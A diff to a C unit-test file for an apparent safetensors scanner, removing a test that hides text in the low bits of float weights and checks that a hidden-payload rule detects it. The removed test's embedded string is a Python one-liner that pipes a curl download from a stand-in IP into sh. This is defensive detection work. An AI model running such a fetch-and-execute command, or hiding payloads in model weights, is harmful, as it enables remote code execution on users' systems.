@@ -158,32 +158,6 @@ static void nesting_ends_at_a_limit(void **state)
     expect(tut_buf_z(&header), 0, "safetensors.header-depth");
 }
 
-/* The low bit of each number spells text, the earliest number in the high bit of a byte. */
-static void text_in_low_bits_is_found_and_noise_is_not(void **state)
-{
-    (void)state;
-    static const char text[] =
-        "import os; os.system('curl -s http://203.0.113.9/stage2 | sh') # and "
-        "then some more of the kind";
-    for (int is_hidden = 0; is_hidden < 2; is_hidden++) {
-        TUT_CLEAN(tut_buf) b = TUT_BUF_INIT;
-        exam_recorder r;
-        uint32_t noise = 12345;
-        put(&b, "{\"w\":{\"dtype\":\"F32\",\"shape\":[4096],\"data_offsets\":[0,16384]}}", 0);
-        for (size_t i = 0; i < 4096; i++) {
-            noise = noise * 1664525u + 1013904223u;
-            uint32_t value = 0x3c000000u | noise >> 9;
-            size_t byte = i / 8;
-            if (is_hidden && byte < sizeof(text) - 1)
-                value = (value & ~1u) | ((uint32_t)(uint8_t)text[byte] >> (7 - i % 8) & 1u);
-            tut_buf_add_u32le(&b, value);
-        }
-        const char *log = examine(&r, &b);
-        assert_int_equal(recorder_has(log, "rule data.hidden-payload"), is_hidden);
-        recorder_done(&r);
-    }
-}
-
 static void magic_alone_is_no_payload(void **state)
 {
     (void)state;
@@ -222,7 +196,6 @@ int main(void)
         cmocka_unit_test(flipped_bits_are_survived),
         cmocka_unit_test(header_of_claims_costs_no_memory),
         cmocka_unit_test(nesting_ends_at_a_limit),
-        cmocka_unit_test(text_in_low_bits_is_found_and_noise_is_not),
         cmocka_unit_test(magic_alone_is_no_payload),
         cmocka_unit_test(unsafe_paths_are_named),
     };
